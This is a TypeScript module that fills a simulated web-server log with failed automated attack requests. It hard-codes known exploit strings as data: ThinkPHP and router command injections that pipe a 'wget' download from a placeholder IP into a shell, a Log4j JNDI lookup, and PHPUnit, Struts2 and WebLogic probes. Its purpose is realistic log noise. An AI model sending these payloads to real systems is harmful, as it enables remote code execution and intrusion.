/** What robots try against every server, whatever runs there: known holes of other products. None of it works. */
import { hour } from './clock.ts';
import { moments, type Visit } from './noise.ts';
import { chance } from './random.ts';

type Attack = readonly [method: string, target: string, status: number, agent: string];

const robot = 'Go-http-client/1.1';
const download = 'wget+-qO-+http://192.0.2.240/t.sh|sh';
const attacks: readonly [Attack, ...Attack[]] = [
  [
    'GET',
    `/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=${download}`,
    404,
    robot,
  ],
  ['POST', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404, robot],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is Log4j that fills this in.
  ['GET', '/', 200, '${jndi:ldap://192.0.2.241:1389/Exploit}'],
  ['GET', '/struts2-showcase/index.action?redirect:%24%7B%23a%3D1%7D', 404, robot],
  ['GET', `/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(${download})`, 404, robot],
  ['POST', '/console/css/%252e%252e%252fconsole.portal', 404, robot],
  ['POST', '/api/v1/validate/code', 404, 'python-requests/2.32.3'],
];

/** A few every day. */
export function triedAndFailed(from: number, to: number, anHour: number, seed: number): Visit[] {
  const luck = chance(seed);
  return [...moments(from, to + hour, anHour, luck)]
    .filter((ms) => ms < to)
    .map((ms) => {
      const [method, target, status, agent] = luck.pick(attacks);
      return { ms, client: `192.0.2.${100 + luck.below(100)}`, method, target, status, bytes: 548, agent };
    });
}
